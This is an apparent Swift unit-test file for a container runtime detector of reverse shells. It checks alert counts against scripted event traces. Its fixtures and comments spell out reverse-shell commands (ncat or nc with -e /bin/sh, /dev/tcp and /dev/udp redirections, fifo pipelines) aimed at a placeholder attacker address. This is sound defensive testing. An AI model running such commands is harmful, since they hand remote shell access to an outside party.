// SPDX-License-Identifier: Apache-2.0
// The reverse-shell rule over scripted event streams for the shapes the live suite found hard:
// relays that hold the shell's pipes above fd 2 (ncat -e, node, awk), one alert per session in
// either event order (python pty.spawn, busybox applets forked from the shell), a connect delivered
// before the relay's exec, and the look-alikes that must stay quiet.
import XCTest
@testable import RuntimeWatchCore
import Metrics

final class ReverseShellSessionTests: XCTestCase {
    private let cid = String(repeating: "cd", count: 32)
    private var cgroup: String { "/kubepods/besteffort/pod0f5e2f1c-7d3a-4c1e-9b8a-1234567890ab/\(cid)" }
    private let attacker = "198.51.100.1"

    /// Replays `records` through the reverse-shell detector alone, then one event 5 s later so
    /// every grace period has passed.
    private func alerts(_ records: [EventRecord]) throws -> [Alert] {
        let sink = InMemoryAlertSink()
        var engine = Engine(configuration: EngineConfiguration(hostname: "node-1"), detectors: [ReverseShellDetector()],
                            profile: Profile(), sink: sink, metrics: NOOPMetricsHandler.instance)
        for r in records { engine.process(r) }
        let last = records.last?.timestamp ?? 0
        engine.process(EventRecord(timestamp: last + 5_000_000_000, event: .exit(ExitEvent(pid: ProcessID(99_999), code: 0))))
        engine.finish()
        return sink.alerts.filter { $0.ruleID == "reverse-shell" }
    }

    private func pipe(_ n: Int32, _ inode: UInt64) -> DescriptorInfo { DescriptorInfo(fd: n, kind: .pipe, target: "pipe:[\(inode)]", inode: inode) }
    private func fifo(_ n: Int32, _ inode: UInt64, _ path: String) -> DescriptorInfo { DescriptorInfo(fd: n, kind: .pipe, target: path, inode: inode) }
    private func file(_ n: Int32, _ path: String) -> DescriptorInfo { DescriptorInfo(fd: n, kind: .file, target: path) }
    private func devnull(_ n: Int32) -> DescriptorInfo { DescriptorInfo(fd: n, kind: .devnull, target: "/dev/null") }
    private func pts(_ n: Int32) -> DescriptorInfo { DescriptorInfo(fd: n, kind: .tty, target: "/dev/pts/0") }
    private func unix(_ n: Int32, _ inode: UInt64) -> DescriptorInfo {
        DescriptorInfo(fd: n, kind: .socket, target: "socket:[\(inode)]", inode: inode, socket: .init(family: "unix", proto: "stream"))
    }
    private func inet(_ n: Int32, _ inode: UInt64, port: UInt16, proto: String = "tcp") -> DescriptorInfo {
        DescriptorInfo(fd: n, kind: .socket, target: "socket:[\(inode)]", inode: inode,
                       socket: .init(family: "inet", proto: proto, localAddress: "198.51.100.2", localPort: 40_000,
                                     remoteAddress: attacker, remotePort: port, state: proto == "tcp" ? "ESTABLISHED" : "07"))
    }
    private func connect(_ t: inout TraceBuilder, _ pid: Int32, port: UInt16, result: Int32 = 0, process: RuntimeWatchCore.ProcessInfo? = nil) {
        t.emit(.connect(ConnectEvent(pid: ProcessID(pid), proto: "tcp", remoteAddress: attacker, remotePort: port, result: result, process: process)))
    }
    private func start(_ t: inout TraceBuilder) {
        t.snapshot(100, ppid: 1, exe: "/bin/busybox", cgroup: cgroup, fds: [devnull(0), file(1, "/out"), file(2, "/out")])
    }
    private func assertOne(_ found: [Alert], pid: Int32, port: UInt16, _ what: String, file: StaticString = #filePath, line: UInt = #line) {
        XCTAssertEqual(found.count, 1, "\(what): \(found.map(\.output))", file: file, line: line)
        guard let a = found.first else { return }
        XCTAssertEqual(a.fields["proc.pid"], .int(Int64(pid)), "\(what): names the shell: \(a.output)", file: file, line: line)
        XCTAssertEqual(a.fields["fd.rip"], .string(attacker), "\(what): \(a.output)", file: file, line: line)
        XCTAssertEqual(a.fields["fd.rport"], .int(Int64(port)), "\(what): \(a.output)", file: file, line: line)
        XCTAssertEqual(a.fields["container.id"], .string(String(cid.prefix(12))), file: file, line: line)
    }

    // MARK: - Relays that hold the shell's channels above fd 2

    /// `ncat H P -e /bin/sh`: ncat connects (non-blocking), forks, and the child execs sh on two pipes
    /// whose other ends ncat keeps on fds 5 and 6; argv's `-e /bin/sh` follows the operands.
    func testNcatExecIsOneAlertOnTheShellWithThePortFromTheConnect() throws {
        for connectFirst in [true, false] {
            var t = TraceBuilder()
            start(&t)
            t.fork(parent: 100, child: 200)
            t.exec(200, ppid: 100, exe: "/usr/bin/ncat", argv: ["ncat", attacker, "4444", "-e", "/bin/sh"], cgroup: cgroup,
                   fds: [devnull(0), file(1, "/out"), file(2, "/out")])
            if connectFirst { connect(&t, 200, port: 4444, result: 115) }
            t.fork(parent: 200, child: 201)
            t.exec(201, ppid: 200, exe: "/bin/busybox", argv: ["/bin/sh"], cgroup: cgroup, fds: [pipe(0, 10), pipe(1, 11), file(2, "/out")])
            if !connectFirst { connect(&t, 200, port: 4444, result: 115) }
            assertOne(try alerts(t.records), pid: 201, port: 4444, "ncat -e, connect first: \(connectFirst)")
        }
        XCTAssertEqual(ReverseShellToolMatcher.remote(name: "ncat", argv: ["ncat", attacker, "4444", "-e", "/bin/sh"])?.port, 4444)
        XCTAssertEqual(ReverseShellToolMatcher.remote(name: "busybox", argv: ["busybox", "nc", "-e", "sh", attacker, "9"])?.address, attacker)
    }

    /// node: `spawn('/bin/sh')` gives sh three socketpairs only node holds; node connects afterwards.
    func testNodeSpawnRelayedOverSocketpairsAlertsWhenNodeConnects() throws {
        var t = TraceBuilder()
        start(&t)
        t.exec(210, ppid: 100, exe: "/usr/bin/node", argv: ["node", "-e", "…"], cgroup: cgroup, fds: [devnull(0), file(1, "/out"), file(2, "/out")])
        t.fork(parent: 210, child: 211)
        t.exec(211, ppid: 210, exe: "/bin/busybox", argv: ["/bin/sh"], cgroup: cgroup, fds: [unix(0, 20), unix(1, 21), unix(2, 22)])
        XCTAssertEqual(try alerts(t.records).count, 0, "no network yet")
        connect(&t, 210, port: 5555)
        let found = try alerts(t.records)
        assertOne(found, pid: 211, port: 5555, "node spawn")
        XCTAssertEqual(found.first?.fields["rw.relay"], .string("node(210)"))
    }

    /// A node service that called an API and then runs `exec("git rev-parse HEAD")`: node holds the
    /// shell's three pipes and connected a moment ago, exactly like a reverse shell's relay, but the
    /// shell runs the command it was given instead of reading commands from node. Same for a
    /// python supervisor piping a worker script. Quiet; `sh -i` on the same wiring still alerts.
    func testNetworkedParentRunningAGivenCommandOverPipesIsQuiet() throws {
        for (argv, exe, loud) in [(["/bin/sh", "-c", "git rev-parse HEAD"], "/bin/busybox", false),
                                  (["bash", "-lc", "npm ls"], "/usr/bin/bash", false),
                                  (["python3", "worker.py"], "/usr/bin/python3", false),
                                  (["/bin/sh", "-i"], "/bin/busybox", true),
                                  (["bash", "-li"], "/usr/bin/bash", true)] {
            var t = TraceBuilder()
            start(&t)
            t.exec(210, ppid: 100, exe: "/usr/bin/node", argv: ["node", "server.js"], cgroup: cgroup, fds: [devnull(0), file(1, "/out"), file(2, "/out")])
            connect(&t, 210, port: 443)
            t.fork(parent: 210, child: 211)
            t.exec(211, ppid: 210, exe: exe, argv: argv, cgroup: cgroup, fds: [pipe(0, 30), pipe(1, 31), pipe(2, 32)])
            t.exit(211)
            XCTAssertEqual(try alerts(t.records).count, loud ? 1 : 0, "\(argv)")
        }
    }

    /// The same node service judged between its fork and the child's exec: the fork still holds
    /// node's own stdin/stdout pipes (the same ends node holds, inherited), which is sharing, not a
    /// relay, even though node just connected. Found live: the fork was reported as a reverse shell.
    func testForkSharingItsNetworkedParentsPipeEndsIsQuiet() throws {
        var t = TraceBuilder()
        start(&t)
        t.exec(210, ppid: 100, exe: "/usr/bin/node", argv: ["node", "app.js"], cgroup: cgroup, fds: [pipe(0, 40), pipe(1, 41), pipe(2, 42)])
        t.fork(parent: 210, child: 211)
        connect(&t, 210, port: 443)
        XCTAssertEqual(try alerts(t.records).count, 0)
    }

    /// gawk '/inet/tcp/…' loop: each command runs as `sh -c CMD` whose output pipe only gawk holds.
    /// gawk is named, not the short-lived `sh -c` (which capture may only see as its next image).
    func testAwkCommandLoopAlertsOnTheInterpreter() throws {
        var t = TraceBuilder()
        start(&t)
        t.exec(220, ppid: 100, exe: "/usr/bin/gawk", argv: ["gawk", "BEGIN{…}"], cgroup: cgroup, fds: [devnull(0), file(1, "/out"), file(2, "/out")])
        connect(&t, 220, port: 6666)
        t.fork(parent: 220, child: 221)
        t.exec(221, ppid: 220, exe: "/usr/bin/dash", argv: ["sh", "-c", "id"], cgroup: cgroup, fds: [devnull(0), pipe(1, 30), file(2, "/out")])
        assertOne(try alerts(t.records), pid: 220, port: 6666, "awk loop")
    }

    /// The same loop when the command was gone before capture read it (busybox `sh -c id` lasts
    /// well under a millisecond): the awk one-liner itself is the reverse shell, named after the grace.
    func testAwkCommandLoopWithUnreadableCommandAlertsOnAwk() throws {
        var t = TraceBuilder()
        start(&t)
        t.exec(225, ppid: 100, exe: "/usr/bin/gawk", argv: ["gawk", "BEGIN{…}"], cgroup: cgroup, fds: [devnull(0), file(1, "/out"), file(2, "/out")])
        connect(&t, 225, port: 6767)
        t.fork(parent: 225, child: 226)
        t.emit(.exec(RuntimeWatchCore.ProcessInfo(pid: ProcessID(226), ppid: ProcessID(225), comm: "id", source: "partial")))
        t.exit(226)
        assertOne(try alerts(t.records), pid: 225, port: 6767, "awk loop, command unreadable")

        // The connect delivered after the command's exec and exit (two capture sources).
        var late = TraceBuilder()
        start(&late)
        late.exec(225, ppid: 100, exe: "/usr/bin/gawk", argv: ["gawk", "BEGIN{…}"], cgroup: cgroup, fds: [devnull(0), file(1, "/out"), file(2, "/out")])
        late.fork(parent: 225, child: 226)
        late.emit(.exec(RuntimeWatchCore.ProcessInfo(pid: ProcessID(226), ppid: ProcessID(225), comm: "sh", exe: "/bin/busybox",
                                                     argv: ["sh", "-c", "id"], source: "partial")))
        connect(&late, 225, port: 0)   // getaddrinfo's route probe comes first, and is no peer
        late.exit(226)
        connect(&late, 225, port: 6767)
        assertOne(try alerts(late.records), pid: 225, port: 6767, "awk loop, connect delivered last")
    }

    /// A script (not an inline program) that connected and then runs a command writing to a file,
    /// and a one-liner whose command writes to the shared stdout: not command loops.
    func testInterpretersRunningCommandsWithoutAPrivateOutputAreQuiet() throws {
        var t = TraceBuilder()
        start(&t)
        t.exec(227, ppid: 100, exe: "/usr/bin/python3", argv: ["python3", "/app/sync.py"], cgroup: cgroup, fds: [devnull(0), file(1, "/out"), file(2, "/out")])
        connect(&t, 227, port: 443)
        t.fork(parent: 227, child: 228)
        t.exec(228, ppid: 227, exe: "/bin/busybox", argv: ["sh", "-c", "tar x"], cgroup: cgroup, fds: [devnull(0), pipe(1, 31), file(2, "/out")])
        t.exec(229, ppid: 100, exe: "/usr/bin/python3", argv: ["python3", "-c", "…"], cgroup: cgroup, fds: [devnull(0), file(1, "/out"), file(2, "/out")])
        connect(&t, 229, port: 443)
        t.fork(parent: 229, child: 230)
        t.exec(230, ppid: 229, exe: "/bin/busybox", argv: ["sh", "-c", "tar x"], cgroup: cgroup, fds: [devnull(0), file(1, "/out"), file(2, "/out")])
        XCTAssertEqual(try alerts(t.records).map(\.output), [])
    }

    // MARK: - One alert per session, whatever the order

    /// python: connect, dup2 the socket onto 0-2, pty.spawn("/bin/sh"). python qualifies on its own
    /// (socket stdio) and sh through the pty python holds: one alert, naming sh, in both orders.
    func testPythonPtySpawnIsOneAlertNamingTheShellInEitherOrder() throws {
        for rereadFirst in [true, false] {
            var t = TraceBuilder()
            start(&t)
            t.exec(230, ppid: 100, exe: "/usr/bin/python3.11", argv: ["python3", "-c", "…"], cgroup: cgroup,
                   fds: [devnull(0), file(1, "/out"), file(2, "/out")])
            connect(&t, 230, port: 7777)
            let sockets = (0...2).map { inet(Int32($0), 40, port: 7777) }
            if rereadFirst { t.descriptors(230, sockets) }
            t.fork(parent: 230, child: 231)
            t.exec(231, ppid: 230, exe: "/bin/busybox", argv: ["/bin/sh"], cgroup: cgroup, fds: [pts(0), pts(1), pts(2)])
            if !rereadFirst { t.descriptors(230, sockets) }
            assertOne(try alerts(t.records), pid: 231, port: 7777, "pty.spawn, python re-read first: \(rereadFirst)")
        }
    }

    /// python dup2 + subprocess: python and sh hold the same socket; one alert, naming sh.
    func testInterpreterAndShellOnOneSocketIsOneAlert() throws {
        var t = TraceBuilder()
        start(&t)
        t.exec(240, ppid: 100, exe: "/usr/bin/python3", argv: ["python3", "-c", "…"], cgroup: cgroup, fds: [devnull(0), file(1, "/o"), file(2, "/o")])
        connect(&t, 240, port: 7070)
        t.descriptors(240, (0...2).map { inet(Int32($0), 41, port: 7070) })
        t.advance(by: 300_000_000)
        t.fork(parent: 240, child: 241)
        t.exec(241, ppid: 240, exe: "/bin/busybox", argv: ["/bin/sh", "-i"], cgroup: cgroup, fds: (0...2).map { inet(Int32($0), 41, port: 7070) })
        assertOne(try alerts(t.records), pid: 241, port: 7070, "dup2 + subprocess")
    }

    /// An interpreter that is the whole reverse shell (no shell follows) is reported after the grace.
    func testInterpreterAloneIsReportedAfterTheGrace() throws {
        var t = TraceBuilder()
        start(&t)
        t.exec(250, ppid: 100, exe: "/usr/bin/perl", argv: ["perl", "-e", "…"], cgroup: cgroup, fds: [devnull(0), file(1, "/o"), file(2, "/o")])
        connect(&t, 250, port: 7171)
        t.descriptors(250, (0...2).map { inet(Int32($0), 42, port: 7171) })
        assertOne(try alerts(t.records), pid: 250, port: 7171, "perl loop")
    }

    /// `telnet H P < /tmp/t | sh > /tmp/t`: busybox sh runs `id` in a fork without exec (comm
    /// becomes "id"), and the fork holds the same pipes: still one alert, on sh.
    func testTelnetFifoWithBusyboxAppletForkIsOneAlert() throws {
        for commFirst in [true, false] {
            var t = TraceBuilder()
            start(&t)
            t.exec(260, ppid: 100, exe: "/bin/busybox", argv: ["telnet", attacker, "8888"], cgroup: cgroup,
                   fds: [fifo(0, 50, "/tmp/t"), pipe(1, 51), file(2, "/out")])
            t.exec(261, ppid: 100, exe: "/bin/busybox", argv: ["/bin/sh"], cgroup: cgroup,
                   fds: [pipe(0, 51), fifo(1, 50, "/tmp/t"), fifo(2, 50, "/tmp/t")])
            connect(&t, 260, port: 8888)
            t.fork(parent: 261, child: 262)
            if commFirst { t.comm(262, "id") }
            t.descriptors(262, [pipe(0, 51), fifo(1, 50, "/tmp/t"), fifo(2, 50, "/tmp/t")])
            if !commFirst { t.comm(262, "id") }
            assertOne(try alerts(t.records), pid: 261, port: 8888, "telnet fifo, comm first: \(commFirst)")
        }
        var forked = RuntimeWatchCore.ProcessInfo(pid: ProcessID(1), comm: "id", exe: "/bin/busybox", argv: ["/bin/sh"])
        forked.source = "inherited"
        XCTAssertEqual(ProgramClassifier.kind(of: forked), .other, "a busybox applet in a fork is judged by its comm")
    }

    /// mkfifo pipeline where nc's connect (audit) is delivered before nc's exec (proc connector).
    func testFifoPipelineWithConnectBeforeExecIsOneAlert() throws {
        var t = TraceBuilder()
        start(&t)
        t.fork(parent: 100, child: 270)
        t.comm(270, "cat")
        t.exec(271, ppid: 100, exe: "/bin/busybox", argv: ["/bin/sh", "-i"], cgroup: cgroup, fds: [pipe(0, 60), pipe(1, 61), pipe(2, 61)])
        t.fork(parent: 100, child: 272)
        let ncInfo = RuntimeWatchCore.ProcessInfo(pid: ProcessID(272), ppid: ProcessID(100), comm: "nc", exe: "/bin/busybox", argv: ["nc", attacker, "9999"],
                                 cgroup: cgroup, fds: [pipe(0, 61), fifo(1, 62, "/tmp/f"), file(2, "/out")], source: "proc")
        connect(&t, 272, port: 9999, process: ncInfo)
        t.emit(.exec(ncInfo))
        assertOne(try alerts(t.records), pid: 271, port: 9999, "mkfifo, connect first")
    }

    /// `exec 5<>/dev/tcp/H/P; cat <&5 | while read l; do $l 2>&5 >&5; done`: the loop subshell (a
    /// fork of bash, seen through the capture's re-read) reads the socket through cat; the commands
    /// it runs write to the same peer. One alert on the loop, whichever of the two is seen first.
    func testBashReadLoopOverDevTcpAlertsOnTheLoopShell() throws {
        for commandFirst in [true, false] {
            var t = TraceBuilder()
            start(&t)
            t.exec(310, ppid: 100, exe: "/usr/bin/bash", argv: ["bash", "-c", "…"], cgroup: cgroup, fds: [devnull(0), file(1, "/o"), file(2, "/o")])
            connect(&t, 310, port: 4321)
            t.fork(parent: 310, child: 311)
            t.exec(311, ppid: 310, exe: "/usr/bin/cat", argv: ["cat"], cgroup: cgroup, fds: [inet(0, 95, port: 4321), pipe(1, 96), file(2, "/o")])
            t.fork(parent: 310, child: 312)
            if !commandFirst { t.descriptors(312, [pipe(0, 96), file(1, "/o"), file(2, "/o")]) }
            t.fork(parent: 312, child: 313)
            t.exec(313, ppid: 312, exe: "/usr/bin/id", argv: ["id"], cgroup: cgroup, fds: [pipe(0, 96), inet(1, 95, port: 4321), inet(2, 95, port: 4321)])
            t.exit(313)
            if commandFirst { t.descriptors(312, [pipe(0, 96), file(1, "/o"), file(2, "/o")]) }
            assertOne(try alerts(t.records), pid: 312, port: 4321, "bash read loop, command first: \(commandFirst)")
        }
    }

    /// The read loop when every command finished before capture could read it: the loop is a fork
    /// of the bash that connected, so it holds that connection; its input comes through cat.
    func testBashReadLoopWithUnreadableCommandsAlertsOnTheLoopShell() throws {
        var t = TraceBuilder()
        start(&t)
        t.exec(320, ppid: 100, exe: "/usr/bin/bash", argv: ["bash", "-c", "…"], cgroup: cgroup, fds: [devnull(0), file(1, "/o"), file(2, "/o")])
        connect(&t, 320, port: 4322)
        t.fork(parent: 320, child: 321)
        t.fork(parent: 320, child: 322)
        t.exec(321, ppid: 320, exe: "/usr/bin/cat", argv: ["cat"], cgroup: cgroup, fds: [inet(0, 97, port: 4322), pipe(1, 98), file(2, "/o")])
        t.fork(parent: 322, child: 323)
        t.emit(.exec(RuntimeWatchCore.ProcessInfo(pid: ProcessID(323), source: "inherited")))
        t.exit(323)
        t.descriptors(322, [pipe(0, 98), file(1, "/o"), file(2, "/o")])
        assertOne(try alerts(t.records), pid: 322, port: 4322, "bash read loop, commands unreadable")
    }

    // MARK: - Look-alikes

    /// A bash HTTP check: `exec 3<>/dev/tcp/h/p; …; cat <&3 | while read l; do echo "$l"; done`, or
    /// with a command whose output capture saw going to a file. The loop holds the connection it
    /// inherited but never writes to it: quiet.
    func testBashReadLoopThatDoesNotWriteToTheConnectionIsQuiet() throws {
        for runsCommand in [false, true] {
            var t = TraceBuilder()
            start(&t)
            t.exec(330, ppid: 100, exe: "/usr/bin/bash", argv: ["bash", "check.sh"], cgroup: cgroup, fds: [devnull(0), file(1, "/o"), file(2, "/o")])
            connect(&t, 330, port: 80)
            t.fork(parent: 330, child: 331)
            t.exec(331, ppid: 330, exe: "/usr/bin/cat", argv: ["cat"], cgroup: cgroup, fds: [inet(0, 99, port: 80), pipe(1, 100), file(2, "/o")])
            t.fork(parent: 330, child: 332)
            t.descriptors(332, [pipe(0, 100), file(1, "/o"), file(2, "/o")])
            if runsCommand {
                t.fork(parent: 332, child: 333)
                t.exec(333, ppid: 332, exe: "/usr/bin/grep", argv: ["grep", "-q", "200"], cgroup: cgroup, fds: [pipe(0, 101), file(1, "/o"), file(2, "/o")])
                t.exit(333)
            }
            XCTAssertEqual(try alerts(t.records).count, 0, "read loop, runs a command: \(runsCommand)")
        }
    }

    /// `sh -c "python3 -c '<recv>' | sh > /tmp/out"`: the inner sh reads the network but writes a
    /// file; the outer sh (and its forks before they exec) must not be taken for a relayed shell.
    func testDownloadPipedToShellWritingAFileIsQuiet() throws {
        var t = TraceBuilder()
        start(&t)
        t.exec(280, ppid: 100, exe: "/bin/busybox", argv: ["sh", "-c", "python3 -c … | sh > /tmp/out"], cgroup: cgroup,
               fds: [devnull(0), file(1, "/out"), file(2, "/out")])
        t.fork(parent: 280, child: 281)
        t.fork(parent: 280, child: 282)
        t.exec(281, ppid: 280, exe: "/usr/bin/python3", argv: ["python3", "-c", "…"], cgroup: cgroup, fds: [devnull(0), pipe(1, 70), file(2, "/out")])
        connect(&t, 281, port: 8080)
        t.descriptors(282, [pipe(0, 70), file(1, "/tmp/out"), file(2, "/tmp/out")])
        t.exec(282, ppid: 280, exe: "/bin/busybox", argv: ["sh"], cgroup: cgroup, fds: [pipe(0, 70), file(1, "/tmp/out"), file(2, "/tmp/out")])
        t.descriptors(280, [devnull(0), file(1, "/out"), file(2, "/out")])
        XCTAssertEqual(try alerts(t.records).map(\.output), [])
    }

    /// sshd-like: a server (not an interpreter or network tool) holds the pty master of a shell and
    /// made an outbound connect (DNS, LDAP); a python server that accepted a connection and spawned
    /// a shell on a pty has no outbound connect at all. Both quiet; so is a shell on a socketpair
    /// made by a process that never connected.
    func testPtyServersAndLocalSocketpairsAreQuiet() throws {
        var t = TraceBuilder()
        start(&t)
        t.exec(290, ppid: 100, exe: "/usr/sbin/sshd", argv: ["sshd: root@pts/0"], cgroup: cgroup, fds: [devnull(0), devnull(1), devnull(2)])
        connect(&t, 290, port: 53)
        t.fork(parent: 290, child: 291)
        t.exec(291, ppid: 290, exe: "/usr/bin/bash", argv: ["-bash"], cgroup: cgroup, fds: [pts(0), pts(1), pts(2)])
        t.exec(292, ppid: 100, exe: "/usr/bin/python3", argv: ["python3", "/srv/ptyserver.py"], cgroup: cgroup, fds: [devnull(0), file(1, "/o"), file(2, "/o")])
        t.fork(parent: 292, child: 293)
        t.exec(293, ppid: 292, exe: "/bin/busybox", argv: ["/bin/sh"], cgroup: cgroup, fds: [pts(0), pts(1), pts(2)])
        t.exec(294, ppid: 100, exe: "/usr/bin/python3", argv: ["python3", "-c", "socketpair"], cgroup: cgroup, fds: [devnull(0), file(1, "/o"), file(2, "/o")])
        t.fork(parent: 294, child: 295)
        t.exec(295, ppid: 294, exe: "/bin/busybox", argv: ["/bin/sh"], cgroup: cgroup, fds: [unix(0, 80), unix(1, 80), unix(2, 80)])
        XCTAssertEqual(try alerts(t.records).map(\.output), [])
    }

    /// UDP: `sh -i >& /dev/udp/H/P 0>&1` leaves a connected UDP socket on 0-2.
    func testUdpSocketStdioAlerts() throws {
        var t = TraceBuilder()
        start(&t)
        t.exec(300, ppid: 100, exe: "/usr/bin/bash", argv: ["bash", "-c", "…"], cgroup: cgroup, fds: [devnull(0), file(1, "/o"), file(2, "/o")])
        t.emit(.connect(ConnectEvent(pid: ProcessID(300), proto: "udp", remoteAddress: attacker, remotePort: 5353)))
        t.descriptors(300, (0...2).map { inet(Int32($0), 90, port: 5353, proto: "udp") })
        assertOne(try alerts(t.records), pid: 300, port: 5353, "udp")
    }
}
